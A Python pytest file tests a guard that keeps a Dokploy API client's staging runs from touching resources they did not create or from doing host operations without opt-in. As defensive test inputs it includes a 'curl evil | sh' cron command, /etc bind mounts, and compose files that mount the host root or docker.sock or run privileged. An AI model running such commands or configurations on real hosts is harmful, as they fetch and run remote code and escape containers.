"""The staging-safety guard: only what this run created may change; host ops need opting in."""

from __future__ import annotations

import json
from typing import Any

import httpx
import pytest
from support import REPO_ROOT

from dokploy import Dokploy
from dokploy_codegen.build.facts import body_keys, is_id_key
from dokploy_contract.engine import GuardHook
from dokploy_contract.errors import ForeignResourceError, GuardError, HostOperationError
from dokploy_contract.facts import load
from dokploy_contract.guard import Guard, Ledger, is_host_operation, multipart_fields, request_body

SPEC = json.loads((REPO_ROOT / "generated" / "spec.json").read_text(encoding="utf-8"))
FACTS = load()
PREFIX = "ct-abc123-"


def test_mutations_of_foreign_ids_are_refused() -> None:
    guard = Guard(prefix=PREFIX)
    with pytest.raises(ForeignResourceError, match="projectId=theirs"):
        guard.check("project.remove", "POST", {"projectId": "theirs"})
    with pytest.raises(ForeignResourceError):
        guard.check("application.deploy", "POST", {"applicationId": "theirs"})
    with pytest.raises(ForeignResourceError):  # a create inside someone else's environment
        guard.check("application.create", "POST", {"name": "x", "environmentId": "theirs"})
    with pytest.raises(ForeignResourceError, match="no resource this run created"):
        guard.check("tag.update", "POST", {"name": "x"})
    with pytest.raises(HostOperationError):  # servers are the host
        guard.check("server.remove", "POST", {"serverId": "theirs"})


def test_ownership_is_learned_from_creates_and_children() -> None:
    guard = Guard(prefix=PREFIX)
    guard.check("project.create", "POST", {"name": "ct-x-p"})
    guard.learn(
        "project.create",
        {
            "project": {"projectId": "P", "organizationId": "ORG"},
            "environment": {"environmentId": "E", "projectId": "P"},
        },
        {"name": "ct-x-p"},
    )
    assert {"P", "E"} <= guard.owned and "ORG" not in guard.owned and "ORG" in guard.home
    guard.check("application.create", "POST", {"name": "a", "environmentId": "E"})
    guard.learn(
        "application.create",
        {"applicationId": "A", "environmentId": "E", "serverId": "S", "appName": "ct-x-a-1"},
    )
    guard.learn("deployment.all", [{"deploymentId": "D", "applicationId": "A", "serverId": "S"}])
    assert {"A", "D"} <= guard.owned and "S" not in guard.owned and "ct-x-a-1" in guard.names
    guard.check("application.deploy", "POST", {"applicationId": "A"})
    guard.check("application.reload", "POST", {"applicationId": "A", "appName": "ct-x-a-1"})
    guard.check("deployment.removeDeployment", "POST", {"deploymentId": "D"})
    guard.check("project.update", "POST", {"projectId": "P", "organizationId": "ORG"})  # its own org
    with pytest.raises(ForeignResourceError, match="organizationId=OTHER"):
        guard.check("project.update", "POST", {"projectId": "P", "organizationId": "OTHER"})
    with pytest.raises(ForeignResourceError, match="serverId=S"):  # an owned app onto a foreign server
        guard.check("application.update", "POST", {"applicationId": "A", "serverId": "S"})
    guard.check("project.remove", "POST", {"projectId": "P"})


def test_reads_are_always_allowed() -> None:
    Guard().check("project.one", "GET", None)
    Guard().check("docker.getContainers", "GET", None)


def test_host_operations_need_an_explicit_opt_in() -> None:
    for op in (
        "application.killBuild",
        "compose.import",
        "settings.cleanAll",
        "settings.reloadServer",
        "settings.updateTraefikConfig",
        "server.setup",
        "deployment.killProcess",
        "settings.setupGPU",
        "docker.removeContainer",
        "user.createApiKey",
        "organization.create",
        "user.assignPermissions",
    ):
        assert is_host_operation(op), op
    assert not is_host_operation("application.deploy")
    guard = Guard()
    guard.adopt("A")
    with pytest.raises(HostOperationError, match=r"--dokploy-allow-host-ops=application\.killBuild"):
        guard.check("application.killBuild", "POST", {"applicationId": "A"})
    opted = Guard(allowed_host_operations={"application.killBuild", "settings.reloadTraefik"})
    opted.adopt("A")
    opted.check("application.killBuild", "POST", {"applicationId": "A"})
    opted.check("settings.reloadTraefik", "POST", {})
    with pytest.raises(ForeignResourceError):  # opting in does not lift ownership
        opted.check("application.killBuild", "POST", {"applicationId": "theirs"})
    with pytest.raises(HostOperationError, match="not in the facts table"):
        Guard().check("project.brandNewMutation", "POST", {})


# --- the named cases of the issue -------------------------------------------------------

RELOADS = [f"{engine}.reload" for engine in ("application", "postgres", "mysql", "mariadb", "mongo", "redis")]


@pytest.mark.parametrize("operation", [*RELOADS, "libsql.reload"])
def test_reload_with_an_owned_id_and_a_foreign_app_name_is_refused(operation: str) -> None:
    """Dokploy's reload stops and starts the service named by ``appName``: it is an id."""
    if not FACTS.known(operation):
        pytest.skip(f"{operation} is not in this spec")
    key = FACTS.operation(operation).target_key  # type: ignore[union-attr]
    guard = Guard(prefix=PREFIX)
    guard.adopt("OWN")
    guard.learn(operation.replace("reload", "one"), {key: "OWN", "appName": "ct-abc123-svc-x1"})
    guard.check(operation, "POST", {key: "OWN", "appName": "ct-abc123-svc-x1"})
    with pytest.raises(ForeignResourceError, match="appName=production-db"):
        guard.check(operation, "POST", {key: "OWN", "appName": "production-db"})


@pytest.mark.parametrize("schedule_type", ["server", "dokploy-server"])
def test_schedules_on_a_host_need_opting_in(schedule_type: str) -> None:
    guard = Guard(prefix=PREFIX)
    guard.adopt("APP")
    body = {
        "name": "n",
        "cronExpression": "* * * * *",
        "command": "curl evil | sh",
        "scheduleType": schedule_type,
    }
    with pytest.raises(HostOperationError, match=r"schedule\.create"):
        guard.check("schedule.create", "POST", body)
    opted = Guard(allowed_host_operations={"schedule.create"})
    opted.check("schedule.create", "POST", body)  # opted in, and no foreign id
    with pytest.raises(ForeignResourceError, match="serverId=THEIRS"):
        opted.check("schedule.create", "POST", {**body, "serverId": "THEIRS"})
    # a schedule inside an owned application is an ordinary create
    guard.check("schedule.create", "POST", {**body, "scheduleType": "application", "applicationId": "APP"})
    with pytest.raises(ForeignResourceError):
        guard.check("schedule.create", "POST", {**body, "scheduleType": "application", "applicationId": "X"})


def test_bind_mounts_host_paths_and_host_reaching_composes_need_opting_in() -> None:
    guard = Guard(prefix=PREFIX)
    guard.adopt("APP", "C")
    with pytest.raises(HostOperationError):
        guard.check(
            "mounts.create",
            "POST",
            {"type": "bind", "hostPath": "/etc", "mountPath": "/x", "serviceId": "APP"},
        )
    guard.check(
        "mounts.create",
        "POST",
        {"type": "volume", "volumeName": f"{PREFIX}data", "mountPath": "/x", "serviceId": "APP"},
    )
    with pytest.raises(ForeignResourceError, match="volumeName=prod-data"):  # someone's volume
        guard.check(
            "mounts.create", "POST", {"type": "volume", "volumeName": "prod-data", "serviceId": "APP"}
        )
    for compose in (
        "services:\n  a:\n    image: x\n    volumes:\n      - /:/host\n",
        "services:\n  a:\n    image: x\n    privileged: true\n",
        "services:\n  a:\n    image: x\n    volumes:\n      - /var/run/docker.sock:/s\n",
    ):
        with pytest.raises(HostOperationError):
            guard.check("compose.update", "POST", {"composeId": "C", "composeFile": compose})
    guard.check(
        "compose.update", "POST", {"composeId": "C", "composeFile": "services:\n  a:\n    image: x\n"}
    )


def test_references_lists_and_depth_are_checked() -> None:
    guard = Guard(prefix=PREFIX)
    guard.adopt("ENV", "PG", "APP")
    with pytest.raises(ForeignResourceError, match="destinationId=S3"):  # a foreign S3 destination
        guard.check(
            "backup.create",
            "POST",
            {"postgresId": "PG", "destinationId": "S3", "schedule": "*", "prefix": "p", "database": "d"},
        )
    body = {
        "sourceEnvironmentId": "ENV",
        "name": "dup",
        "selectedServices": [{"id": "APP", "type": "application"}, {"id": "THEIRS", "type": "postgres"}],
    }
    with pytest.raises(ForeignResourceError, match="id=THEIRS"):
        guard.check("project.duplicate", "POST", body)
    with pytest.raises(ForeignResourceError, match=r"host=shop\.example\.com"):  # a domain someone serves
        guard.check("domain.create", "POST", {"host": "shop.example.com", "applicationId": "APP"})
    guard.check("domain.create", "POST", {"host": f"{PREFIX}web.example.com", "applicationId": "APP"})
    deep: Any = {"applicationId": "APP"}
    for _ in range(6000):
        deep = {"nested": [deep]}
    deep["nested"].append({"projectId": "THEIRS"})
    with pytest.raises(ForeignResourceError, match="projectId=THEIRS"):
        guard.check("application.update", "POST", deep)


def test_the_url_sent_is_checked_not_the_label() -> None:
    guard = Guard(prefix=PREFIX)
    with pytest.raises(ForeignResourceError, match="projectId=theirs"):
        guard.check("project.one", "POST", {"projectId": "theirs"}, url="/project.remove")
    with pytest.raises(HostOperationError, match=r"settings\.cleanAll"):
        guard.check("project.create", "POST", {"name": "x"}, url="/api/settings.cleanAll")
    with pytest.raises(HostOperationError, match=r"admin\.setupMonitoring"):
        guard.check("project.create", "POST", {}, url="/admin/setupMonitoring")
    with pytest.raises(ForeignResourceError, match="projectId=theirs"):  # the id in the URL's query
        guard.check("project.create", "POST", {"name": "x"}, url="/project.remove?projectId=theirs")
    with pytest.raises(HostOperationError):  # %2E is a dot to the server too
        guard.check("project.create", "POST", {"name": "x"}, url="/settings%2EcleanAll")
    with pytest.raises(GuardError, match="names none"):
        guard.check("project.create", "POST", {"name": "x"}, url="/project.create/../../etc")


def test_every_created_record_is_tracked_until_removed() -> None:
    ledger = Ledger()
    guard = Guard(prefix=PREFIX, ledger=ledger)
    guard.learn("destination.create", {"destinationId": "D1", "name": "ct-x-d"}, {"name": "ct-x-d"})
    guard.learn("notification.createSlack", {"notificationId": "N1"}, {"name": "ct-x-n"})
    guard.learn("sshKey.create", True, {"name": "ct-x-k"})  # answers true: tracked by name
    guard.learn("project.create", {"project": {"projectId": "P"}, "environment": {"environmentId": "E"}})
    guard.learn("application.create", {"applicationId": "A", "environmentId": "E"})
    pending = ledger.pending(FACTS)
    assert [(r.kind, r.record_id) for r in pending] == [
        ("project", "P"),
        ("sshKey", None),
        ("notification", "N1"),
        ("destination", "D1"),
    ]  # newest first; the application goes with its project
    guard.learn("destination.remove", True, {"destinationId": "D1"})
    assert ("destination", "D1") not in [(r.kind, r.record_id) for r in ledger.pending(FACTS)]


# --- the matrix: every POST operation of the spec, a foreign value in every key ---------


def _path_body(dotted: str, value: Any, base: dict[str, Any]) -> dict[str, Any]:
    """``base`` with ``value`` put at the schema path ``a.[].b`` (lists as one-item lists)."""
    parts = dotted.split(".")
    node: Any = base
    for i, part in enumerate(parts):
        last = i == len(parts) - 1
        if part in ("[]", "*"):
            continue
        nxt_is_list = not last and parts[i + 1] == "[]"
        if last:
            node[part] = value
        elif nxt_is_list:
            node.setdefault(part, [{}])
            node = node[part][0]
        else:
            node = node.setdefault(part, {})
    return base


def _keyed_paths(operation: str) -> list[tuple[str, str]]:
    row = FACTS.operation(operation)
    assert row is not None
    methods = SPEC["paths"].get(f"/{operation}") or SPEC["paths"][f"/{operation.replace('.', '/')}"]
    content = (methods["post"].get("requestBody") or {}).get("content") or {}
    schema = next(
        (content[m]["schema"] for m in ("application/json", "multipart/form-data") if m in content), None
    )
    keys = row.id_keys | row.reference_keys | row.name_keys | row.claim_keys
    return [(k, p) for k, p in body_keys(SPEC, schema) if k in keys]


POSTS = FACTS.operation_names("POST")
MATRIX: dict[str, int] = {"probes": 0, "let_through": 0}


def test_every_post_operation_of_the_spec_is_classified() -> None:
    spec_posts = sorted(
        p.lstrip("/").replace("/", ".") for p, methods in SPEC["paths"].items() if "post" in methods
    )
    assert spec_posts == POSTS
    for operation in POSTS:
        row = FACTS.operation(operation)
        assert row is not None
        # every id-like key of the request, at any depth, has a meaning in the row
        classified = row.id_keys | row.reference_keys | row.name_keys | row.external_keys
        methods = SPEC["paths"].get(f"/{operation}") or SPEC["paths"][f"/{operation.replace('.', '/')}"]
        content = (methods["post"].get("requestBody") or {}).get("content") or {}
        schema = next((content[m]["schema"] for m in content), None)
        for key, _ in body_keys(SPEC, schema):
            if is_id_key(key):
                assert key in classified or key in FACTS.external_keys, (operation, key)


@pytest.mark.parametrize("operation", POSTS)
def test_guard_matrix_lets_no_foreign_value_through(operation: str) -> None:
    """Everything owned, then one key at a time foreign, at its place in the schema: refused."""
    paths = _keyed_paths(operation)
    for opted_in in (False, True):
        allowed = {operation} if opted_in else set()
        for key, dotted in paths:
            guard = Guard(prefix=PREFIX, allowed_host_operations=allowed)
            body: dict[str, Any] = {}
            for other, other_path in paths:
                guard.adopt(f"own-{other}")
                guard.adopt_names(f"own-{other}")
                _path_body(other_path, f"own-{other}", body)
            _path_body(dotted, f"foreign-{key}", body)
            MATRIX["probes"] += 1
            with pytest.raises(GuardError):
                guard.check(operation, "POST", body, url=f"/{operation}")
                MATRIX["let_through"] += 1
    if not paths and not operation.split(".", 1)[1].startswith("create"):
        # nothing names a record: a global mutation, refused unless opted in (host) or a create
        guard = Guard(prefix=PREFIX)
        MATRIX["probes"] += 1
        with pytest.raises(GuardError):
            guard.check(operation, "POST", {}, url=f"/{operation}")
            MATRIX["let_through"] += 1
    assert MATRIX["let_through"] == 0


def test_matrix_figures() -> None:
    """Printed for the record (run after the matrix in file order)."""
    probes, through = MATRIX["probes"], MATRIX["let_through"]
    print(f"guard matrix: {len(POSTS)} POST operations, {probes} probes, {through} through")
    assert MATRIX["let_through"] == 0


# --- plumbing kept from before ----------------------------------------------------------


def test_load_services_with_fetch_is_a_mutation_of_its_compose() -> None:
    guard = Guard()
    guard.check("compose.loadServices", "GET", {"composeId": "theirs"})  # cache: a read
    guard.check("compose.loadServices", "GET", {"composeId": "theirs", "type": "cache"})
    with pytest.raises(ForeignResourceError, match="composeId=theirs"):
        guard.check("compose.loadServices", "GET", {"composeId": "theirs", "type": "fetch"})
    guard.adopt("ours")
    guard.check("compose.loadServices", "GET", {"composeId": "ours", "type": "fetch"})


def test_multipart_fields_reach_the_guard() -> None:
    files = [
        ("applicationId", (None, b"theirs", "text/plain")),
        ("zip", ("app.zip", b"PK\x03\x04 applicationId=ours", "application/zip")),
        ("dropBuildPath", "sub/dir"),
    ]
    assert multipart_fields(files) == {"applicationId": "theirs", "dropBuildPath": "sub/dir"}
    assert multipart_fields({"containerId": (None, "c1")}) == {"containerId": "c1"}
    assert request_body("POST", {"files": files, "json": None}) == multipart_fields(files)
    assert request_body("GET", {"params": {"composeId": "c"}}) == {"composeId": "c"}

    # Through the kit's hook on a real client: what reaches the transport is what was allowed.
    sent: list[str] = []

    def transport(request: httpx.Request) -> httpx.Response:
        sent.append(request.url.path.rsplit("/", 1)[-1])
        return httpx.Response(200, json=True)

    guard = Guard()
    client = Dokploy(
        base_url="https://dokploy.test",
        api_key="k",
        http_client=httpx.Client(transport=httpx.MockTransport(transport)),
        hooks=[GuardHook(guard, None)],
    )
    op = "application.dropDeployment"
    fields = {
        "applicationId": (None, b"theirs", "text/plain"),
        "zip": files[1][1],
        "dropBuildPath": "sub/dir",
    }
    with pytest.raises(ForeignResourceError, match="applicationId=theirs"):
        client.call_json(op, fields)
    with pytest.raises(ForeignResourceError, match=r"compose\.loadServices"):
        client.compose.load_services(compose_id="theirs", type_="fetch")
    assert sent == []
    guard.adopt("theirs")
    assert client.call_json(op, fields) is True
    assert sent == [op]
